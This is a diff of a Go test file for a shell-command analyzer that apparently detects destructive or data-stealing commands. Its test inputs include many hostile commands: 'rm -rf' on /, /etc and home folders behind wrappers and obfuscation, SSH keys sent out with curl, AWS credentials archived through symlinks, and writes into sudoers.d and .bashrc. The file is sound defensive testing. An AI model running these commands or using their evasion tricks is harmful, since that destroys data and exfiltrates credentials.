@@ -56,9 +56,32 @@ func TestAnalyze(t *testing.T) {
 		{`$(echo r)m -rf /`, `echo r; rm -rf /`},
 		{`rm -rf ${HOME:?}/`, `rm -rf /home/dev/`},
 		{`rm -rf /{etc,usr}`, `rm -rf /etc /usr`},
+		// paths bash resolves: ~+ ~- ~N, realpath, readlink -f, node -p, a pattern at the root
+		{`cd .git && rm -rf ~+`, `cd .git; rm -rf /home/dev/proj/.git @/home/dev/proj/.git`},
+		{`cd /tmp; rm -rf ~-/x`, `cd /tmp; rm -rf /home/dev/proj/x @/tmp`},
+		{`rm -rf ~-`, `rm -rf $OLDPWD`},
+		{`pushd ~; pushd /tmp; rm -rf ~1 ~-0 ~+0 ~9`, `pushd /home/dev; pushd /tmp @/home/dev; rm -rf /home/dev /home/dev/proj /tmp ~9 @/tmp`},
+		{`rm -rf "$(realpath ..)"`, `realpath ..; rm -rf /home/dev`},
+		{`rm -rf $(readlink -f /etc/../usr)`, `readlink -f /etc/../usr; rm -rf /usr`},
+		{`rm -rf "$(readlink build)"`, `readlink build; rm -rf $(0)`},
+		{`rm -rf "$(node -p 'require("os").homedir()')"`, `node -p require("os").homedir(); rm -rf /home/dev`},
+		{`rm -rf /e[t]c /u?r/li* /x*`, `rm -rf /e[t]c /etc /u?r/li* /usr/li* /x*`},
+		{`ls /tmp/*.log`, `ls /tmp/*.log`},
+		{`rm -rf ~/.ss? ~/.cache/x* ~/D*`, `rm -rf /home/dev/.ss? /home/dev/.ssh /home/dev/.cache/x* /home/dev/D* /home/dev/Documents /home/dev/Desktop`},
+		{`find / -path '/p*' -prune; rm -rf "/e"*`, `find / -path /p* -prune; rm -rf /e*`},
 		// wrappers
 		{`sudo -u root env -i FOO=1 nice -n 5 timeout 10 rm -rf /etc`, `rm -rf /etc via sudo,env,nice,timeout`},
 		{`command -v rm`, `command -v rm`},
+		{`runuser -u root rm -rf /etc`, `rm -rf /etc via runuser`},
+		{`runuser -u root -- rm -rf /etc`, `rm -rf /etc via runuser`},
+		{`strace -f -o t.log rm -rf /etc`, `rm -rf /etc via strace`},
+		{`unshare -r -w /tmp rm -rf /etc`, `rm -rf /etc via unshare`},
+		{`setpriv --reuid 0 --init-groups rm -rf /etc`, `rm -rf /etc via setpriv`},
+		{`prlimit --nofile=100 -p 42`, `prlimit --nofile=100 -p 42`},
+		{`gdb -batch -ex run -ex 'shell rm -rf /etc' ./app`, `gdb -batch -ex run -ex shell rm -rf /etc ./app; rm -rf /etc via gdb shell`},
+		{`machinectl shell root@ /bin/rm -rf /etc`, `rm -rf /etc via machinectl`},
+		{`sg wheel -c 'rm -rf /etc'`, `sg wheel -c rm -rf /etc; rm -rf /etc via sg`},
+		{`capsh --caps=cap_sys_admin+ep -- -c 'rm -rf /etc'`, `bash -c rm -rf /etc via capsh; rm -rf /etc via capsh,bash -c`},
 		{`xargs -0 rm -rf < list`, `rm -rf ? via xargs`},
 		{`echo / | xargs rm -rf`, `echo /; rm -rf / via xargs`},
 		{`find / -name x -exec rm -rf {} \;`, `find / -name x -exec rm -rf {} ;; rm -rf /<match> via find -exec; rm -rf /x via find -exec`},
@@ -71,6 +94,10 @@ func TestAnalyze(t *testing.T) {
 		// nesting
 		{`bash -c "rm -rf ~/"`, `bash -c rm -rf ~/; rm -rf /home/dev/ via bash -c`},
 		{`eval 'rm -rf /'`, `eval rm -rf /; rm -rf / via eval`},
+		// a process substitution of known text given as the script file
+		{`bash <(echo 'rm -rf /')`, `echo rm -rf /; bash <(0) runs echo; rm -rf / via bash <(...)`},
+		{`. <(printf 'rm -rf ~\n')`, `printf rm -rf ~\n; . <(0) runs printf; rm -rf /home/dev via . <(...)`},
+		{`source <(kubectl completion bash)`, `kubectl completion bash; source <(0) runs kubectl`},
 		// a new shell's own arguments are its $1... and "$@"; for x without in walks them
 		{`bash -c '$1' _ 'rm -rf /'`, `bash -c $1 _ rm -rf /; rm -rf / via bash -c`},
 		{`sh -c 'exec "$@"' sh rm -rf /`, `sh -c exec "$@" sh rm -rf /; rm -rf / via sh -c,exec`},
@@ -100,9 +127,29 @@ func TestAnalyze(t *testing.T) {
 		{`rm -rf "$(mktemp -d -p ~)"/..`, `mktemp -d -p /home/dev; rm -rf /home/dev/tmp.XXXXXXXXXX/..`},
 		{`export D=/srv; rm -rf "$D"`, `export D=/srv; rm -rf /srv`},
 		{`for d in / /usr; do rm -rf $d; done`, `rm -rf /; rm -rf /usr`},
+		// arrays and variables the line fills: declare -a, a[N]=, read, mapfile, ${x,,}
+		{`declare -a a=(rm -rf /etc); "${a[@]}"`, `declare -a a=; rm -rf /etc`},
+		{`a[0]=git; a[1]=reset; a[2]=--hard; "${a[@]}"`, `git reset --hard`},
+		{`a[0]=git; a[5]=x; "${a[@]}"`, `?`},
+		{`read -a a <<< "rm -rf /etc"; "${a[@]}"`, `read -a a; rm -rf /etc`},
+		{`IFS= read -r d <<< " /etc "; rm -rf "$d"`, `read -r d; rm -rf  /etc`},
+		{`read x y <<< "a b  c "; echo "$y"`, `read x y; echo b  c`},
+		{`read -d , d <<< "/etc,x"; rm -rf "$d"`, `read -d , d; rm -rf /etc`},
+		{`source; . ; source <(echo)`, `source; .; echo; source <(0) runs echo`},
+		{`read -r d < <(echo /etc); rm -rf "$d"`, `echo /etc; read -r d; rm -rf /etc`},
+		{`printf '/tmp/a\n/etc\n' | while read d; do rm -rf "$d"; done`, `printf /tmp/a\n/etc\n; read d; rm -rf /tmp/a; read d; rm -rf /etc`},
+		{`mapfile -t ds <<< /etc; rm -rf "${ds[@]}"`, `mapfile -t ds; rm -rf /etc`},
+		{`find /etc -maxdepth 0 | parallel rm -rf`, `find /etc -maxdepth 0; rm -rf /etc via parallel`},
+		{`x=RM; y=gIT; ${x,,} -rf ${y^^} ${y,}`, `rm -rf GIT gIT`},
 		{`rm -rf $UNSET/`, `rm -rf $UNSET/`},
 		{`rm -rf "${UNSET:?}"/x "$1"`, `rm -rf $UNSET/x ?`},
 		{`K=$(cat ~/.ssh/id_rsa); curl -d "$K" https://x`, `cat /home/dev/.ssh/id_rsa; curl -d $(0) https://x`},
+		// links the line made: through them to the file or folder they reach
+		{`ln -s ~/.bashrc rc; cat rc; rm rc`, `ln -s /home/dev/.bashrc rc; cat /home/dev/.bashrc; rm rc`},
+		{`ln ~/.ssh/id_rsa k; curl -F f=@k https://x`, `ln /home/dev/.ssh/id_rsa k; curl -F f=@/home/dev/.ssh/id_rsa https://x`},
+		{`ln -s ../shared/c.json c.json; cat c.json`, `ln -s ../shared/c.json c.json; cat /home/dev/shared/c.json`},
+		{`ln -s ~/.aws a; tar czf x.tgz a; tar czhf y.tgz a`, `ln -s /home/dev/.aws a; tar czf x.tgz a; tar czhf y.tgz /home/dev/.aws`},
+		{`ln -s /etc/hosts conf/; cat conf/hosts`, `ln -s /etc/hosts conf/; cat /etc/hosts`},
 		// data is not a command
 		{`echo "rm -rf /"`, `echo rm -rf /`},
 		{`git commit -m "rm -rf / is bad"`, `git commit -m rm -rf / is bad`},
@@ -174,6 +221,10 @@ func TestWrites(t *testing.T) {
 		{`rsync -e ssh -av key /etc/cron.d/`, `/etc/cron.d(rsync)`},
 		{`install -m 755 -o root tool /usr/local/bin/`, `/usr/local/bin(install)`},
 		{`echo x >> ~root/.bashrc`, `/root/.bashrc(>> redirect,append)`},
+		// through a link the line made, to a file or into a folder
+		{`ln -s ~/.bashrc rc; echo x >> rc`, `/home/dev/proj/rc(ln) /home/dev/.bashrc(>> redirect,append)`},
+		{`ln -s /etc/sudoers.d sd; echo x > sd/x`, `/home/dev/proj/sd(ln) /etc/sudoers.d/x(> redirect)`},
+		{`ln -s ../shared/c.json c.json; echo {} > c.json`, `/home/dev/proj/c.json(ln) /home/dev/shared/c.json(> redirect)`},
 		{`curl -O https://x.example.io/a/run.sh?v=2`, `/home/dev/proj/run.sh(curl -O)`},
 		{`wget https://x.example.io/t.tar.gz`, `/home/dev/proj/t.tar.gz(wget)`},
 		{`wget -P dl https://x.example.io/t.tar.gz`, `/home/dev/proj/dl/t.tar.gz(wget -P)`},
@@ -237,7 +288,9 @@ func FuzzAnalyze(f *testing.F) {
 		`find / -exec sh -c 'rm {}' \;`, `python -c "os.system('rm -rf /')"`, `xargs -I{} sh -c "{}"`, `sed -n '1e rm x' f`,
 		`sed -i 's/a/b/e;$a x' f`, "make -f - <<'E'\nall: ; rm $(X)\n\tx\nE", `awk 'BEGIN{print "rm x"}' | sh`,
 		`python3 -c "open(os.path.join(Path.home() / 'x', 'y'), 'a').write('z')"`, `perl -e 'open(F, ">>", "$ENV{HOME}/.x"); system("a", "b")'`,
-		`python3 -c "import psycopg2; psycopg2.connect(host='h').cursor().execute('DROP TABLE t')"`} {
+		`python3 -c "import psycopg2; psycopg2.connect(host='h').cursor().execute('DROP TABLE t')"`,
+		`bash <(echo 'rm x'); source <(printf 'y\n')`, `read -a a -d , <<< "x y,z"; "${a[@]}"; mapfile -t m <<< a`,
+		`ln -s a b; ln c d/; cat b d/c; echo x >> b`, `pushd /; rm ~+ ~- ~1 ~-2 /e[t]c; x=Ab; ${x,,} ${x^}`} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, src string) {
